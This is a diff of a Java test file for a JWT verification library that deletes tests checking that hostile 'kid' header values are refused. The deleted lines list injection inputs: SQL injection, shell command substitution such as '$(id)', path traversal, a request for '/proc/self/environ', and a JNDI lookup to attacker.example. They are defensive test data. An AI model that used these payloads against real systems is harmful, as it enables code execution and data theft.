@@ -1,12 +1,8 @@
 package dev.latchkey.jwt;
 
-import static org.assertj.core.api.Assertions.assertThat;
-
 import dev.latchkey.json.JsonObjectBuilder;
 import dev.latchkey.json.JsonValue;
 import dev.latchkey.json.JsonValue.JsonArray;
-import dev.latchkey.json.JsonValue.JsonBoolean;
-import dev.latchkey.json.JsonValue.JsonNumber;
 import dev.latchkey.json.JsonValue.JsonObject;
 import dev.latchkey.json.JsonValue.JsonString;
 import dev.latchkey.testing.TestKeys;
@@ -16,14 +12,11 @@ import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.security.KeyPair;
 import java.util.List;
-import java.util.Map;
-import java.util.stream.Stream;
 import java.util.zip.Deflater;
 import java.util.zip.DeflaterOutputStream;
 import org.junit.jupiter.api.DisplayName;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 @DisplayName("D: Header parameters that point elsewhere")
@@ -33,106 +26,6 @@ class HeaderAttacksTest {
 
     private final Door door = Door.rsa(Algorithm.RS256);
     private final String good = Door.goodRs256();
-
-    @Test
-    @DisplayName("D1: a kid that walks to an empty file finds no key")
-    void pathTraversal() {
-        door.accepts(good);
-        String token =
-                TestTokens.good("HS256").header("kid", "../../../../dev/null").hmac("SHA256", new byte[1]);
-        door.refuses(token, Reason.UNKNOWN_KEY);
-        Door.hs256().refuses(token, Reason.BAD_SIGNATURE);
-    }
-
-    @ParameterizedTest
-    @DisplayName("D2: a kid that is SQL, a command or an address is compared and nothing else")
-    @ValueSource(
-            strings = {
-                "x' UNION SELECT 'secret' -- ",
-                "$(id)",
-                "`id`",
-                "|/usr/bin/id",
-                "https://attacker.example/k",
-                "file:///proc/self/environ",
-                "${jndi:ldap://attacker.example/k}",
-                "KEY-1",
-                "key-1 ",
-                "key-1/"
-            })
-    void kidAsCommand(String kid) {
-        door.accepts(good);
-        Verification.Rejected rejected =
-                door.refuses(Door.token("RS256").header("kid", kid).rs256(Door.RSA.getPrivate()), Reason.UNKNOWN_KEY);
-        assertThat(rejected.kid()).contains(kid);
-        assertThat(rejected.verifiedKeyId()).isNull();
-    }
-
-    @ParameterizedTest
-    @DisplayName("D3: a kid with NUL or another control character is malformed and is not passed on to logs")
-    @ValueSource(strings = {"key-1\0.pem", "key-1\0", "key-1\n", "\u001b[31mkey-1", "key-1\u0085"})
-    void kidWithControlCharacter(String kid) {
-        door.accepts(good);
-        Verification.Rejected rejected = door.refuses(
-                Door.token("RS256").header("kid", kid).rs256(Door.RSA.getPrivate()), Reason.MALFORMED_HEADER);
-        assertThat(rejected.kid()).isEmpty();
-    }
-
-    @Test
-    @DisplayName(
-            "D4: a kid of 256 characters is compared, one of 257 or an empty one is malformed, one of 6,000 too large")
-    void longKid() {
-        door.accepts(good);
-        String longest = "k".repeat(256);
-        assertThat(door.refuses(signedWithKid(new JsonString(longest)), Reason.UNKNOWN_KEY)
-                        .kid())
-                .contains(longest);
-        for (String kid : List.of("k".repeat(257), "k".repeat(3000), "", " ")) {
-            Verification.Rejected rejected = door.refuses(signedWithKid(new JsonString(kid)), Reason.MALFORMED_HEADER);
-            assertThat(rejected.kid()).isEmpty();
-        }
-        assertThat(door.refuses(signedWithKid(new JsonString("k".repeat(6000))), Reason.TOKEN_TOO_LARGE)
-                        .kid())
-                .isEmpty();
-    }
-
-    @ParameterizedTest(name = "{0}")
-    @DisplayName("D5: a kid that is no string is malformed")
-    @MethodSource("kidsOfOtherTypes")
-    void kidOfOtherType(JsonValue kid) {
-        door.accepts(good);
-        door.refuses(signedWithKid(kid), Reason.MALFORMED_HEADER);
-    }
-
-    static Stream<JsonValue> kidsOfOtherTypes() {
-        return Stream.of(
-                JsonNumber.of(1),
-                new JsonBoolean(true),
-                JsonValue.NULL,
-                new JsonArray(List.of(new JsonString("key-1"))),
-                new JsonObject(Map.of()));
-    }
-
-    @ParameterizedTest
-    @DisplayName("D6: a kid that names a secret fetches nothing")
-    @ValueSource(
-            strings = {"latchkey/other", "arn:aws:secretsmanager:eu-central-1:123456789012:secret:latchkey/other-AbCdEf"
-            })
-    void kidNamesSecret(String kid) {
-        door.accepts(good);
-        door.refuses(signedWithKid(new JsonString(kid)), Reason.UNKNOWN_KEY);
-    }
-
-    @Test
-    @DisplayName("D7: an unknown kid is refused, and so is a missing one where there are several keys")
-    void unknownKid() {
-        door.accepts(good);
-        door.refuses(signedWithKid(new JsonString("key-2")), Reason.UNKNOWN_KEY);
-
-        Door two = Door.of("{\"keys\":[{" + TestKeys.jwkMembers(Door.RSA) + ",\"kid\":\"key-1\"},{"
-                + TestKeys.jwkMembers(ATTACKER) + ",\"kid\":\"key-2\"}]}");
-        two.accepts(good);
-        two.refuses(TestTokens.good("RS256").rs256(Door.RSA.getPrivate()), Reason.UNKNOWN_KEY);
-    }
 
     @Test
     @DisplayName("D8: a key embedded as jwk is not used, with and without the real kid")
@@ -297,10 +190,6 @@ class HeaderAttacksTest {
 
     private static String byAttacker(String name, JsonValue value) {
         return Door.token("RS256").header(name, value).rs256(ATTACKER.getPrivate());
-    }
-
-    private static String signedWithKid(JsonValue kid) {
-        return Door.token("RS256").header("kid", kid).rs256(Door.RSA.getPrivate());
     }
 
     private static String signedHeader(String members) {
